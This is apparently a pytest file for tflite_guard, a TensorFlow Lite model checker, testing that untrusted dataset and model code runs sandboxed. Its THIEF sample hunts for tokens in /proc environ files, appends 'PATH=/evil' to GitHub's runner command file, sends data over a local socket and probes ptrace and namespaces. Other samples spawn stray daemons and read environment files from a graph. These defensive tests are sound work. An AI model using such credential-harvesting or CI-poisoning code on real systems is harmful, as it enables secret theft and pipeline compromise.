"""A model is a program: what it tries to steal or to break, and what it gets."""

from __future__ import annotations

import errno
import fcntl
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from tests.conftest import EXAMPLES, Run, manifest_of, only, write_manifest
from tflite_guard.run.scratch import Scratch, sweep

SECRET = "ghs_secret_that_no_model_may_see"
THIEF = """
import ctypes, errno, fcntl, os, pathlib, platform, resource, socket
import numpy as np

def call(*arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return result

def steal():
    found = []
    ancestor = os.getppid()
    places = [f"/proc/{pid}/environ" for pid in range(max(1, ancestor - 100), ancestor + 100)] + ["%(private)s"]
    for place in places:
        try:
            if b"ghs_secret" in pathlib.Path(place).read_bytes():
                found.append("read " + place)
        except OSError:
            pass
    if "ghs_secret" in str(dict(os.environ)):
        found.append("environment")
    for target in ("%(command_file)s", "%(workspace)s/planted"):
        try:
            with open(target, "a") as stream:
                stream.write("PATH=/evil")
            found.append("wrote " + target)
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", %(port)d), 1)
        found.append("connected")
    except OSError:
        pass
    try:
        os.kill(ancestor, 0)
        found.append("can signal the parent")
    except OSError:
        pass
    datagram = socket.SOCK_DGRAM
    attempts = {
        "limits of the parent": lambda: resource.prlimit(ancestor, resource.RLIMIT_NOFILE, (5, 5)),
        "processors of the parent": lambda: os.sched_setaffinity(ancestor, {0}),
        "priority of the parent": lambda: os.setpriority(os.PRIO_PROCESS, ancestor, 19),
        "mode": lambda: os.chmod("%(data)s", 0o640),
        "mode of an open file": lambda: os.chmod(os.open("%(data)s", os.O_RDONLY), 0o640),
        "times": lambda: os.utime("%(data)s", (1, 1)),
        "owner": lambda: os.chown("%(data)s", os.geteuid(), os.getegid()),
        "attribute": lambda: os.setxattr("%(data)s", "user.planted", b"1"),
        "attribute of an inode": lambda: fcntl.ioctl(os.open("%(data)s", os.O_RDONLY), 0x40086602, bytes(8)),
        "UDP": lambda: socket.socket(socket.AF_INET, datagram).sendto(b"stolen", ("127.0.0.1", %(port)d)),
        "UDP 6": lambda: socket.socket(socket.AF_INET6, datagram),
        "named socket": lambda: socket.socket(socket.AF_UNIX),
        "named socket by a pair": lambda: socket.socketpair(socket.AF_UNIX, datagram),
        "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
        "io_uring": lambda: call(425, 8, ctypes.create_string_buffer(120)),
        "user namespace": lambda: call(
            {"x86_64": 56, "aarch64": 220}[platform.machine()], 0x10000000 | 17, 0, 0, 0, 0
        ) or os._exit(0),
        "ptrace": lambda: call({"x86_64": 101, "aarch64": 117}[platform.machine()], 16, ancestor, 0, 0),
    }
    for name, attempt in attempts.items():
        try:
            attempt()
            found.append(name)
        except OSError as error:
            if error.errno != errno.EPERM:
                found.append(f"{name}: {error}")
    own = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, own)
    for end in socket.socketpair():
        end.close()
    if found:
        raise RuntimeError("stolen: " + ", ".join(found))
    images = np.load("%(data)s")["image"][:50]
    return {"image": images, "label": np.load("%(data)s")["label"][:50]}
"""


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server


@pytest.fixture
def thieving(digits: Path, tmp_path: Path, listener: socket.socket) -> tuple[Path, Path]:
    """A manifest whose evaluation data comes from code that tries to steal; and the runner's command file."""
    command_file = tmp_path / "github_env"
    command_file.write_text("")
    private = tmp_path / "private"
    private.write_text(SECRET)
    (digits / "thief.py").write_text(
        THIEF
        % {
            "command_file": command_file,
            "workspace": digits,
            "private": private,
            "port": listener.getsockname()[1],
            "data": digits / "data/evaluation.npz",
        }
    )
    manifest = only(manifest_of(digits), "shipped", "float32")
    manifest["datasets"]["test"] |= {"source": "python", "path": "thief:steal"}
    manifest["models"][0]["tolerances"] = {}
    return write_manifest(digits, manifest), command_file


def test_code_in_a_child_finds_no_token_and_writes_nothing(run: Run, thieving: tuple[Path, Path]) -> None:
    manifest, command_file = thieving
    env = {"GITHUB_TOKEN": SECRET, "ACTIONS_RUNTIME_TOKEN": SECRET, "GITHUB_ENV": str(command_file)}
    finished = run("check", manifest, "--allow-code", "--format", "json", env=env)
    assert finished.code == 0, finished.out + finished.err
    assert command_file.read_text() == ""
    assert not (manifest.parent / "planted").exists()


LEAVING = """
import os, subprocess

def load():
    for _ in range(100):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "%s"])
            os._exit(0)
    raise ValueError("done")
"""


def test_what_a_model_has_started_ends_with_the_run(run: Run, light_digits: Path) -> None:
    marker = f"600.{os.getpid()}"
    (light_digits / "daemons.py").write_text(LEAVING % marker)
    manifest = manifest_of(light_digits)
    manifest["datasets"]["test"] = {"source": "python", "path": "daemons:load", "inputs": "image"}
    manifest["models"][0] |= {"metrics": ["sqnr"], "tolerances": {}}
    finished = run("check", write_manifest(light_digits, manifest), "--allow-code")
    assert "done" in finished.out
    left = [path for path in Path("/proc").glob("[0-9]*/cmdline") if marker.encode() in read_or_nothing(path)]
    assert left == []


UNLISTED = """
import os
from tflite_guard.engine import keeper

class Gone:
    def __init__(self, path):
        pass
    def read_text(self):
        raise FileNotFoundError

keeper.Path = Gone
keeper.go_on_kept(os.getppid())
os._exit(7)
"""


def test_a_kernel_that_lists_no_children_does_not_hide_how_a_child_ended() -> None:
    finished = subprocess.run([sys.executable, "-c", UNLISTED], capture_output=True, text=True, check=False)
    assert (finished.returncode, finished.stderr) == (7, "")


def read_or_nothing(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def test_code_is_not_run_unless_allowed(run: Run, thieving: tuple[Path, Path]) -> None:
    manifest, _ = thieving
    finished = run("check", manifest)
    assert finished.code == 2
    assert "--allow-code" in finished.err


@pytest.fixture(scope="module")
def reading_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A SavedModel whose graph reads a file while it computes."""
    import tensorflow as tf

    class Reader(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 8, 8, 1], tf.float32, name="image")])
        def __call__(self, image: Any) -> Any:
            secret = tf.io.read_file("/proc/self/environ")
            length = tf.cast(tf.strings.length(secret), tf.float32)
            return {"scores": tf.reshape(image, [-1, 64])[:, :10] + length}

    model, folder = Reader(), tmp_path_factory.mktemp("reading") / "model"
    tf.saved_model.save(model, str(folder), signatures=model.__call__)
    return folder


def test_a_graph_that_reads_files_is_refused(run: Run, digits: Path, reading_model: Path) -> None:
    (digits / "models/reader").symlink_to(reading_model)
    manifest = only(manifest_of(digits), "float32")
    manifest["models"][0]["reference"] = {"saved_model": "models/reader"}
    finished = run("check", write_manifest(digits, manifest), "--data-root", reading_model)
    assert finished.code == 3
    assert "ReadFile" in finished.out
    assert "--allow-code" in finished.out


def test_a_hanging_model_is_ended_and_the_next_is_judged(run: Run, light_digits: Path) -> None:
    (light_digits / "slow.py").write_text("import time\ndef load():\n    time.sleep(600)\n")
    manifest = manifest_of(light_digits)
    manifest["datasets"]["slow"] = {"source": "python", "path": "slow:load", "inputs": "image"}
    hanging = {"name": "hanging", "evaluation": "slow", "metrics": ["sqnr"], "tolerances": {}}
    manifest["models"].insert(0, manifest["models"][0] | hanging)
    path = write_manifest(light_digits, manifest)
    started = time.monotonic()
    finished = run("check", path, "--allow-code", "--timeout", "10", "--jobs", "1", "--format", "json")
    assert time.monotonic() - started < 120
    assert finished.code == 3
    first, second = finished.report["models"]
    assert first["error"]["kind"] == "timeout"
    assert "--timeout" in first["error"]["message"]
    assert second["verdict"] == "pass"


CRASHING = """
import itertools, os
import numpy as np

passes = itertools.count()

def load():
    os.abort()

def later():
    number = next(passes)
    for example in range(100):
        if number == 2 and example == 70:  # counted, and looked at for its size, before
            os.abort()
        yield {"image": np.zeros((8, 8, 1), np.float32)}
"""


def test_a_crashing_model_is_an_error_and_the_next_is_judged(run: Run, light_digits: Path) -> None:
    (light_digits / "crash.py").write_text(CRASHING)
    manifest = manifest_of(light_digits)
    (good,) = manifest["models"]
    for name in ("later", "load"):
        manifest["datasets"][name] = {"source": "python", "path": f"crash:{name}", "inputs": "image"}
        manifest["models"].insert(0, good | {"name": name, "evaluation": name, "metrics": ["sqnr"], "tolerances": {}})
    finished = run("check", write_manifest(light_digits, manifest), "--allow-code", "--jobs", "1", "--format", "json")
    assert finished.code == 3
    *crashed, last = finished.report["models"]
    for model, at in zip(
        crashed, ("opened dataset 'load'", "read examples 64 to 99 (from 0) of dataset 'later'"), strict=True
    ):
        assert model["error"]["kind"] == "crash"
        assert "SIGABRT" in model["error"]["message"]
        assert at in model["error"]["message"]
    assert last["verdict"] == "pass"


def test_a_conversion_that_crashes_is_its_variants_error_and_not_the_references(run: Run, digits: Path) -> None:
    import keras

    # TensorFlow Lite has no operator for text, so that a batch of one is tried, which ends the process.
    crash = keras.layers.Lambda(
        lambda x: (
            __import__("os").abort()
            if x.shape[0] == 1
            else __import__("tensorflow").strings.length(__import__("tensorflow").strings.as_string(x))
        ),
        (8, 8, 1),
    )
    keras.Sequential([keras.Input((8, 8, 1), name="image"), crash]).save(digits / "models/crash.keras")
    manifest = only(manifest_of(digits), "float32")
    manifest["models"][0] |= {"reference": {"keras": "models/crash.keras"}, "metrics": ["sqnr"], "tolerances": {}}
    finished = run("check", write_manifest(digits, manifest), "--allow-code", "--format", "json")
    assert finished.code == 3
    (model,) = finished.report["models"]
    assert model["error"] is None
    error = model["variants"][0]["error"]
    assert error["kind"] == "crash"
    assert error["message"].startswith(
        "the process that made float32 of models/crash.keras crashed (SIGABRT), while it exported the model for the "
        "converter"
    )


def test_a_model_that_crashes_before_any_example_says_so(run: Run, light_digits: Path) -> None:
    from tests.engine.engine_models import edited

    def without_scale(content: Any) -> None:
        (made,) = [one for one in content.subgraphs[0].tensors if one.name == b"tfl.quantize"]
        made.quantization.scale = [0.0]  # of which LiteRT's kernel takes a logarithm

    app = light_digits / "app"
    edited(str(app / "digits_int8.tflite"), app / "broken.tflite", without_scale)
    manifest = manifest_of(light_digits)
    manifest["models"][0]["variants"] = [{"name": "broken", "tflite": "app/broken.tflite"}]
    finished = run("check", write_manifest(light_digits, manifest), "--format", "json")
    assert finished.code == 3
    error = finished.variant("broken")["error"]
    assert error["kind"] == "crash"
    assert "while it prepared the model's operators, before any example" in error["message"]


def test_a_model_that_needs_too_much_memory_is_an_error_that_says_so(light_digits: Path) -> None:
    from tflite_guard.manifest import load
    from tflite_guard.run import pipeline
    from tflite_guard.run.jobs import Options

    (light_digits / "hog.py").write_text(
        "import numpy as np\ndef load():\n    return {'image': np.ones((64, 2**30), np.uint8)}\n"
    )
    manifest = manifest_of(light_digits)
    manifest["datasets"]["test"] |= {"source": "python", "path": "hog:load"}
    manifest["datasets"]["test"].pop("labels")
    manifest["models"][0] |= {"metrics": ["sqnr"], "tolerances": {}}
    loaded = load(str(write_manifest(light_digits, manifest)), allow_code=True)
    report = pipeline.run([loaded], Options(allow_code=True, memory_bytes=8 * 2**30))
    error = report.models[0].error
    assert error is not None
    assert error.kind == "out-of-memory"
    assert "memory" in error.message


def limited(kind: int, size: int, *arguments: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """A check under a limit of the user's own."""
    command = [sys.executable, "-m", "tflite_guard", "check", "--no-cache", "--diagnose", "never", *map(str, arguments)]
    limit = partial(resource.setrlimit, kind, (size, size))
    return subprocess.run(command, cwd=cwd, capture_output=True, text=True, check=False, preexec_fn=limit)


def test_a_lower_limit_on_memory_than_ours_holds(light_digits: Path) -> None:
    finished = limited(resource.RLIMIT_DATA, 2 * 2**30, cwd=light_digits)
    assert finished.returncode == 0, finished.stdout


def test_a_limit_on_open_files_that_is_too_low_is_told(light_digits: Path) -> None:
    finished = limited(resource.RLIMIT_NOFILE, 8, cwd=light_digits)
    assert finished.returncode == 3
    assert "too many files are open at the same time; raise `ulimit -n`" in " ".join(finished.stdout.split())


def test_a_limit_on_memory_that_is_too_low_is_told(light_digits: Path) -> None:
    finished = limited(resource.RLIMIT_AS, 300 * 2**20, cwd=light_digits)
    assert finished.returncode == 3
    told = " ".join(finished.stdout.split())
    assert "ran out of memory" in told
    assert "memory is limited by `ulimit -v` to 314.6 MB, raise that" in told


def children_of(pid: int) -> list[int]:
    found = []
    for path in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = path.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(path.parent.name))
    return found


def alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.parametrize(
    ("sent", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 130), (signal.SIGHUP, 130), (signal.SIGKILL, -9)]
)
def test_an_interrupt_leaves_no_child_and_no_half_written_file(tmp_path: Path, sent: signal.Signals, code: int) -> None:
    out, cache = tmp_path / "report", tmp_path / "cache"
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "tflite_guard",
            "check",
            str(EXAMPLES / "digits/tflite-guard.json"),
            "--report-dir",
            str(out),
            "--cache-dir",
            str(cache),
        ],
        env=os.environ | {"TMPDIR": str(scratch)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        # A shell has what it runs in the background ignore it, and what that starts, these tests among them.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    deadline = time.monotonic() + 60
    while not (children := children_of(process.pid)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert children
    time.sleep(1.5)  # into TensorFlow's import or the first conversion
    process.send_signal(sent)
    _, errors = process.communicate(timeout=60)
    assert process.returncode == code
    if code == 130:
        assert "Traceback" not in errors.decode()
        assert list(scratch.iterdir()) == []
    deadline = time.monotonic() + 15
    while any(alive(child) for child in children) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(alive(child) for child in children)
    assert not out.exists() or list(out.iterdir()) == []
    sweep(str(scratch))  # as the next run does
    assert list(scratch.iterdir()) == []


def test_only_scratch_folders_of_ours_that_nobody_owns_are_removed(tmp_path: Path) -> None:
    for name in ("dead", "living", "others"):
        (tmp_path / f"tflite-guard-{name:_<8}" / "inner").mkdir(parents=True)
        (tmp_path / f"tflite-guard-{name:_<8}" / "owner").touch()
    (tmp_path / "tflite-guard-no_owner").mkdir()
    (tmp_path / "tflite-guard-mine").mkdir()
    (tmp_path / "tflite-guard-mine" / "owner").touch()
    (tmp_path / "tflite-guard-linked__").symlink_to("tflite-guard-mine")
    owned_by_link = tmp_path / "tflite-guard-by_link_"
    owned_by_link.mkdir()
    (owned_by_link / "owner").symlink_to("../tflite-guard-dead____/owner")
    pipe = tmp_path / "tflite-guard-has_pipe"
    pipe.mkdir()
    os.mkfifo(pipe / "owner")
    if os.geteuid() == 0:
        os.chown(tmp_path / "tflite-guard-others__", 12345, 12345)
    else:
        shutil.rmtree(tmp_path / "tflite-guard-others__")
    before = {path.name for path in tmp_path.iterdir()}
    with (tmp_path / "tflite-guard-living__" / "owner").open() as owner:
        fcntl.flock(owner, fcntl.LOCK_EX)
        sweep(str(tmp_path))
    assert before - {path.name for path in tmp_path.iterdir()} == {"tflite-guard-dead____"}


def test_what_a_run_left_that_was_killed_before_it_owned_its_folder_is_removed_later(tmp_path: Path) -> None:
    for name, files in (("empty___", ()), ("early___", ("tmpabc",)), ("being_made"[:8], ()), ("in_use__", ("a", "b"))):
        folder = tmp_path / f"tflite-guard-{name}"
        folder.mkdir()
        for file in files:
            (folder / file).touch()
        if name != "being_ma":
            os.utime(folder, (0, 0))
    locked = tmp_path / "tflite-guard-locking_"
    locked.mkdir()
    with (locked / "tmpdef").open("w") as early:
        fcntl.flock(early, fcntl.LOCK_EX)
        os.utime(locked, (0, 0))
        sweep(str(tmp_path))
    left = {path.name.removeprefix("tflite-guard-") for path in tmp_path.iterdir()}
    assert left == {"being_ma", "in_use__", "locking_"}


def test_an_interrupt_while_a_scratch_folder_is_removed_leaves_nothing(tmp_path: Path) -> None:
    code = """
from tflite_guard.run import scratch
def interrupted(path):
    scratch.remove = kept
    raise KeyboardInterrupt
kept, scratch.remove = scratch.remove, interrupted
scratch.Scratch().close()
"""
    done = subprocess.run([sys.executable, "-c", code], env=os.environ | {"TMPDIR": str(tmp_path)}, capture_output=True)
    assert b"KeyboardInterrupt" in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_a_run_goes_on_where_files_cannot_be_locked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def unlockable(*_: object) -> None:
        raise OSError(errno.ENOLCK, "No locks available")

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with monkeypatch.context() as without:
        without.setattr(fcntl, "flock", unlockable)
        scratch = Scratch()
    sweep(str(tmp_path))
    assert os.path.isdir(scratch.path)
    scratch.close()
    assert list(tmp_path.iterdir()) == []


def test_a_module_in_the_repository_does_not_shadow_an_installed_one(run: Run, digits: Path) -> None:
    for name in ("numpy", "tensorflow", "keras", "ai_edge_litert", "msgspec"):
        (digits / f"{name}.py").write_text("raise SystemExit('shadowed')")
    manifest = write_manifest(digits, only(manifest_of(digits), "shipped"))
    finished = run("validate", manifest, cwd=digits.parent)
    assert finished.code == 0
    program = shutil.which("tflite-guard", path=os.path.dirname(sys.executable))
    assert program is not None
    checked = subprocess.run(
        [program, "check", "tflite-guard.json", "--no-cache"], cwd=digits, capture_output=True, text=True, check=False
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_random_bytes_as_tflite_are_an_error_not_a_crash(run: Run, light_digits: Path) -> None:
    rng = np.random.default_rng(0)
    whole = bytearray((light_digits / "app/digits_int8.tflite").read_bytes())
    for position in rng.integers(8, len(whole), 400):
        whole[position] = int(rng.integers(0, 256))
    (light_digits / "app/digits_int8.tflite").write_bytes(bytes(whole))
    finished = run("check", light_digits / "tflite-guard.json", "--format", "json")
    assert finished.code in (1, 3)
    assert "Traceback" not in finished.err
